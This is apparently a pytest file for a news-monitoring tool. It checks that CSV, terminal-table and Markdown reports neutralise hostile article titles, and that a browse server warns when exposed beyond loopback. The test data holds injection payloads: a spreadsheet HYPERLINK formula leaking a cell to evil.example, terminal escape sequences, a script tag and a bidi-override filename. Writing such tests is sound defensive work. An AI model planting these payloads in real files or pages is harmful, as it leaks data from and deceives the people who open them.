"""Titles come from the sites collected: each output format makes them safe for where it is
read (a spreadsheet, a terminal, a Markdown renderer); the data itself is not changed."""

from __future__ import annotations

import csv
import io
import json
import socket
import subprocess
import sys
import time
from pathlib import Path

import pandas as pd

from borderwatch.cli import main
from borderwatch.reports.output import render
from tests.support.config import base_config, write_config

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Pakistan Afghanistan talks")',
    "+1 Pakistan Afghanistan talks",
    "-1 Pakistan Afghanistan talks",
    "@SUM(1) Pakistan Afghanistan talks",
    "Pakistan Afghanistan\r\ntalks \x1b]0;owned\x07\x1b]8;;http://evil.example\x1b\\link\x1b[31m",
    "<script>alert(1)</script> Pakistan Afghanistan talks \u202egnp.exe",
]


def test_csv_neutralises_formulas_in_text_cells_only() -> None:
    frame = pd.DataFrame({"title": HOSTILE[:4] + ["plain"], "n": [-1, 2, 3, 4, 5]})
    rows = list(csv.reader(io.StringIO(render(frame, "csv"))))
    assert [r[0] for r in rows[1:]] == ["'" + t for t in HOSTILE[:4]] + ["plain"]
    assert rows[1][1] == "-1"  # numbers stay numbers


def test_table_drops_escape_sequences_and_line_breaks() -> None:
    out = render(pd.DataFrame({"title": HOSTILE[4:]}), "table")
    assert "\x1b" not in out and "\x07" not in out and "\r" not in out
    assert out.count("\n") == 4  # header, rule, two rows
    assert "<U+202E>gnp.exe" in out
    assert "\u202e" not in out


def test_markdown_escapes_html_and_bidi_overrides() -> None:
    out = render(pd.DataFrame({"title": HOSTILE[4:]}), "markdown")
    assert "<script>" not in out
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in out
    assert "&lt;U+202E&gt;gnp.exe" in out
    assert "\u202e" not in out and "\x1b" not in out
    assert out.count("\n") == 4


def test_reports_of_hostile_titles(tmp_path: Path, runner, db_url: str) -> None:
    config = write_config(tmp_path, base_config(tmp_path))
    items = tmp_path / "items.jsonl"
    items.write_text(
        "".join(
            json.dumps({"url": f"https://h.example.org/{n}", "title": t, "published": "2025-10-26"})
            + "\n"
            for n, t in enumerate(HOSTILE)
        ),
        encoding="utf-8",
    )
    args = ["--config", str(config), "--db", db_url]
    assert runner.invoke(main, [*args, "ingest", str(items)]).exit_code == 0
    table = runner.invoke(main, [*args, "report", "stories", "--limit", "20"]).stdout
    assert "\x1b" not in table and "\u202e" not in table
    as_csv = runner.invoke(main, [*args, "report", "stories", "--format", "csv"]).stdout
    titles = [row["title"] for row in csv.DictReader(io.StringIO(as_csv))]
    assert titles and not any(t.startswith(("=", "+", "-", "@")) for t in titles)
    markdown = runner.invoke(main, [*args, "report", "stories", "--format", "markdown"]).stdout
    assert "<script>" not in markdown


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def test_browse_beyond_loopback_warns(tmp_path: Path, runner) -> None:
    config = write_config(tmp_path, base_config(tmp_path))
    db = f"sqlite:///{tmp_path / 'b.sqlite'}"
    assert runner.invoke(main, ["--config", str(config), "--db", db, "status"]).exit_code == 0
    port = _free_port()
    # Listening on every address is what is being tested; nothing connects to it.
    server = subprocess.Popen(
        [sys.executable, "-m", "borderwatch", "--config", str(config), "--db", db,
         "browse", "--host", "0.0.0.0", "--port", str(port)],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    try:
        deadline = time.monotonic() + 30
        first = ""
        while time.monotonic() < deadline and not first:
            first = server.stderr.readline()
        assert first.startswith("warning: listening on 0.0.0.0"), first
        assert "without a password" in first
    finally:
        server.terminate()
        server.communicate(timeout=10)
    quiet = subprocess.Popen(
        [sys.executable, "-m", "borderwatch", "--config", str(config), "--db", db,
         "browse", "--port", str(_free_port())],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    try:
        assert quiet.stderr.readline().startswith("Datasette on http://127.0.0.1")
    finally:
        quiet.terminate()
        quiet.communicate(timeout=10)
